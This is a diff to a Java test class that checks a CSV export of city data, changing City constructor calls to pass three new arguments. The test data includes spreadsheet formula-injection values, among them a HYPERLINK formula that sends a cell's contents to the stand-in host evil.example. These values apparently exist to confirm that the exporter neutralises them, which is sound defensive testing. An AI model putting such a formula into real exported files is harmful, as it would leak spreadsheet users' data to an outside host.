@@ -74,7 +74,7 @@ class OpenDataTest {
     City aarhus = cities.get("aarhus");
     cities.put("aarhus", new City("aarhus", "Aarhus, \"the city of smiles\"", aarhus.country(), aarhus.membership(),
         null, null, null, null, null, null, null, null, false, "line\nbreak", "da", null, List.of(),
-        aarhus.positions()));
+        aarhus.positions(), false, List.of(), null));
     Content changed = new Content(content.site(), content.network(), content.categories(), content.countries(),
         cities, content.pages());
     String row = new String(OpenData.csv(changed), StandardCharsets.UTF_8).split("\r\n")[1];
@@ -90,13 +90,13 @@ class OpenDataTest {
     City rijeka = cities.get("rijeka");
     cities.put("aarhus", new City("aarhus", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Aarhus\")", aarhus.country(),
         aarhus.membership(), null, null, null, null, null, null, null, null, false, "+1+2", "da", null, List.of(),
-        aarhus.positions()));
+        aarhus.positions(), false, List.of(), null));
     cities.put("bergen", new City("bergen", "@SUM(1,2)", bergen.country(), bergen.membership(), null, null, null, null,
-        null, null, null, null, false, "-2+3", "no", null, List.of(), bergen.positions()));
+        null, null, null, null, false, "-2+3", "no", null, List.of(), bergen.positions(), false, List.of(), null));
     cities.put("rijeka", new City("rijeka", "\t=1+2", rijeka.country(), rijeka.membership(),
         City.Kind.METROPOLITAN_AREA, "=seat", 3191648L, new City.Location(45.32673, -14.44241), 128624L, "-source", 2011,
         null, false, "\r=1+2", "hr", null, List.of(new City.AlternativeName("=Fiume", "it"),
-        new City.AlternativeName("Reka", "sl")), rijeka.positions()));
+        new City.AlternativeName("Reka", "sl")), rijeka.positions(), false, List.of(), null));
     Content changed = new Content(content.site(), content.network(), content.categories(), content.countries(),
         cities, content.pages());
     String csv = new String(OpenData.csv(changed), StandardCharsets.UTF_8);
